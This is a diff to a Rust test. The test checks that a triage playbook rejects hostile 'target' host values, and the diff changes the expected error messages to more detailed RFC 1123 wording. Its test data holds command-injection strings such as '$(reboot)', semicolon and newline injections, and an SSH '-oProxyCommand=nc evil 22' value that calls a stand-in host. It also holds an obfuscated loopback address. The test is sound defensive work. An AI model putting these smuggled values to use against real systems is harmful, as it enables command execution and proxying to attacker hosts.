@@ -247,13 +247,22 @@ fn an_answer_overrides_the_live_probe() {
 #[test]
 fn hostile_target_variables_fail_before_anything_runs() {
     let (port, accepted) = counting_listener();
-    let expected = "expected a host name (srv-files-01.example.com) or an IP address (192.0.2.10)";
-    for (hostile, shown) in [
-        ("$(reboot)", "\"$(reboot)\""),
-        ("127.0.0.1;reboot", "\"127.0.0.1;reboot\""),
-        ("`reboot`", "\"`reboot`\""),
-        ("-oProxyCommand=nc evil 22", "\"-oProxyCommand=nc evil 22\""),
-        ("127.0.0.1\nreboot", "\"127.0.0.1\\nreboot\""),
+    const RFC: &str = "expected an IP address or a host name: a host name may contain only letters, digits, `-` and `.` (RFC 1123), not";
+    for (hostile, shown, expected) in [
+        ("$(reboot)", "\"$(reboot)\"", format!("{RFC} `$`")),
+        ("127.0.0.1;reboot", "\"127.0.0.1;reboot\"", format!("{RFC} `;`")),
+        ("`reboot`", "\"`reboot`\"", format!("{RFC} a backtick")),
+        (
+            "-oProxyCommand=nc evil 22",
+            "\"-oProxyCommand=nc evil 22\"",
+            "expected an IP address or a host name: a host name may not start with `-` (it would read as an option)".to_owned(),
+        ),
+        ("127.0.0.1\nreboot", "\"127.0.0.1\\nreboot\"", format!("{RFC} `\\n`")),
+        (
+            "0x7f.1",
+            "\"0x7f.1\"",
+            "expected an IP address or a host name: `0x7f.1` is not an IPv4 address as four decimal numbers 0-255 without leading zeros (the resolver would read it as 127.0.0.1), and a host name may not end in a number".to_owned(),
+        ),
     ] {
         let dir = desk("answers: {}\n");
         let out = run_probe_tcp(
@@ -330,7 +339,7 @@ fn hostile_target_variables_fail_before_anything_runs() {
     assert_eq!(out.status.code(), Some(1));
     assert_eq!(
         stderr(&out),
-        format!("error: input `target` of playbook `tier1-triage` = \"$(reboot)\": {expected}\n")
+        format!("error: input `target` of playbook `tier1-triage` = \"$(reboot)\": {RFC} `$`\n")
     );
     assert_eq!(stdout(&out), "");
     assert_eq!(accepted.load(Ordering::SeqCst), 0, "a probe connected");
